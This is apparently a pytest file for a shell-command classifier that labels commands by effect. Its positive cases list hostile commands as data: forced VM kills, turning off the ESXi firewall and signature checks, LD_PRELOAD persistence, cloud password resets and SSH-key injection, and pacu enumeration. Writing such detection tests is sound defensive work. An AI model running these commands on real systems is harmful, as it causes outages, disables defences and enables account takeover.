"""The readers added for the classes a seventh blind probe (tests/corpus/probe7) found unread, each
in spellings of our own with its nearest everyday look-alike (none is a corpus entry): hypervisor
controls and outages, kernel code loaded without a module, traffic rerouted by the host, cluster
services published on every interface, security agents scheduled nowhere, loader variables set for
every program, noexec removed, accounts made through the accounts daemon, traffic recorded to a
file, and the cloud takeover steps of the offensive toolkits."""

from __future__ import annotations

import pytest
from dsh_policy.cmdline.effects import KINDS, later_class, shell_acts


def kinds(line: str) -> set[str]:
    return {effect["kind"] for effect in shell_acts(line)}


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("esxcli vm process kill -t force -w 77120", "outage"),
        ("vim-cmd vmsvc/power.off 41", "outage"),
        ("vim-cmd vmsvc/destroy 41", "erase-contents"),
        ("esxcli system settings kernel set --setting=execInstalledOnly --value=0", "defense-off"),
        ("esxcli network firewall unload", "defense-off"),
        ("esxcli system syslog config set --loghost=udp://198.51.100.3:514", "log-off"),
        ("esxcli software vib update -d /tmp/bundle.zip --no-sig-check", "persistence"),
        ("vim-cmd hostsvc/start_esx_shell", "defense-off"),
        ("kexec -e", "privilege"),
        ("bpftool net attach xdp id 42 dev eth1", "privilege"),
        ("iptables-nft -t nat -A POSTROUTING -s 10.8.0.0/24 -j SNAT --to-source 203.0.113.4", "tunnel"),
        ("sysctl -w net.ipv4.conf.eth0.accept_source_route=1", "tunnel"),
        ("sysctl -w net.ipv4.conf.all.rp_filter=0", "tunnel"),
        ("kubectl proxy --address :: --accept-hosts '.*'", "cloud-exposure"),
        (
            'kubectl patch deploy api -p \'{"spec":{"template":{"spec":{"hostPID": true}}}}\'',
            "cloud-exposure",
        ),
        ("kubectl -n kube-system scale deploy kyverno-admission-controller --replicas=0", "defense-off"),
        ("kubectl annotate pod web kubearmor-file-posture=audit", "defense-off"),
        ("helm --host tiller.kube-system:44134 list", "remote-exec"),
        ("stress --vm 2", "outage"),
        ("launchctl setenv LD_PRELOAD /tmp/x.so", "persistence"),
        ("launchctl config system path /opt/x:/usr/bin", "persistence"),
        ("mount -o remount,suid,exec /dev/shm", "defense-off"),
        (
            "busctl call org.freedesktop.Accounts /u org.freedesktop.Accounts.User SetAccountType i 1",
            "account",
        ),
        ("dumpcap -i eth0 -w /tmp/c.pcapng", "input-capture"),
        ("rdesktop -r disk:h=/home 203.0.113.9", "tunnel"),
        ("stunnel4 -d 2525 -r smtp.example.net:465", "tunnel"),
        ("in.tftpd -l -s /", "tunnel"),
        (
            "aws cognito-idp admin-set-user-password --user-pool-id p --username u --password x --permanent",
            "cloud-identity",
        ),
        ("aws ec2 describe-instance-attribute --attribute userData --instance-id i-1", "cloud-identity"),
        ("az vm user update -g rg -n vm1 -u ops --ssh-key-value @k.pub", "cloud-identity"),
        ("az ad user update --id bob@example.com --password 'P4ss!x'", "cloud-identity"),
        ("gcloud sql users set-password app --instance=db1 --password=x", "cloud-identity"),
        ("gcloud compute project-info add-metadata --metadata-from-file=ssh-keys=k.txt", "cloud-identity"),
        ("pacu --module-name ec2__enum --exec", "cloud-identity"),
        ("luarocks install --only-server=https://rocks.example.net/ penlight", "registry"),
        ("dpkg --force-bad-verify -i ./tool_1.0_amd64.deb", "tls-off"),
        (
            'aws ecs run-task --cluster c --overrides \'{"containerOverrides":[{"command":["id"]}]}\'',
            "remote-exec",
        ),
        (
            "aws sns subscribe --topic-arn t --protocol email --notification-endpoint x@example.org",
            "publish",
        ),
    ],
)
def test_a_class_is_read(line: str, kind: str) -> None:
    assert kind in kinds(line), shell_acts(line)


@pytest.mark.parametrize(
    "line",
    [
        "esxcli vm process list",
        "esxcli system syslog config get",
        "esxcli software vib list",
        "esxcli software acceptance set --level=VMwareAccepted",
        "vim-cmd vmsvc/power.getstate 41",
        "kexec --version",
        "bpftool prog show",
        "tc qdisc add dev eth0 root netem delay 100ms",
        "ip link set dev eth0 mtu 1400",
        "iptables -A INPUT -p tcp --dport 22 -s 192.168.1.0/24 -j ACCEPT",
        "iptables -t nat -L -n",
        "sysctl -w net.core.somaxconn=4096",
        "sysctl net.ipv4.conf.all.forwarding",
        "nmap -sV localhost",
        "kubectl proxy --port 8001",
        "kubectl port-forward svc/web 8080:80",
        'kubectl patch deploy api -p \'{"spec":{"replicas":3}}\'',
        "kubectl -n monitoring scale deploy grafana --replicas=2",
        "kubectl label pod web tier=frontend",
        "helm list -n tools",
        "knife node list",
        "stress-ng --vm 1 --timeout 20s",
        "launchctl setenv JAVA_HOME /opt/jdk",
        "mount -o remount,rw /boot/efi",
        "dbus-send --session --dest=org.freedesktop.Notifications / org.freedesktop.DBus.Peer.Ping",
        "dscl . -read /Users/alice RealName",
        "tcpdump -i eth0 -c 10 port 53",
        "xfreerdp /v:win-build.example.org /u:ci",
        "aws rds describe-db-instances",
        "aws ssm list-associations",
        "aws s3api put-bucket-lifecycle-configuration --bucket b --lifecycle-configuration file://keep-a-year.json",
        "az storage account list -o table",
        "gcloud compute instances add-metadata vm1 --metadata=env=dev",
        "aws sns subscribe --topic-arn t --protocol sqs --notification-endpoint arn:aws:sqs:us-east-1:1:q",
        "pacu --help",
        "luarocks install penlight",
        "dpkg -i ./tool_1.0_amd64.deb",
        "pip install --server x requests",
    ],
)
def test_a_look_alike_has_none_of_these_effects(line: str) -> None:
    added = {
        *("registry", "tls-off"),
        *("outage", "privilege", "tunnel", "cloud-exposure", "defense-off", "log-off", "persistence"),
        *("account", "input-capture", "remote-exec", "cloud-identity", "publish", "erase-contents"),
    }
    assert not (kinds(line) & added), shell_acts(line)


def test_outage_is_a_reported_kind() -> None:
    assert "outage" in KINDS


def test_xcode_build_phases_and_schemes_run_later_as_build_files() -> None:
    assert later_class("ios/App.xcodeproj/project.pbxproj") == "build-file"
    assert later_class("App.xcodeproj/xcshareddata/xcschemes/App.xcscheme") == "build-file"
    assert later_class("App.xcodeproj/project.xcworkspace/contents.xcworkspacedata") != "build-file"
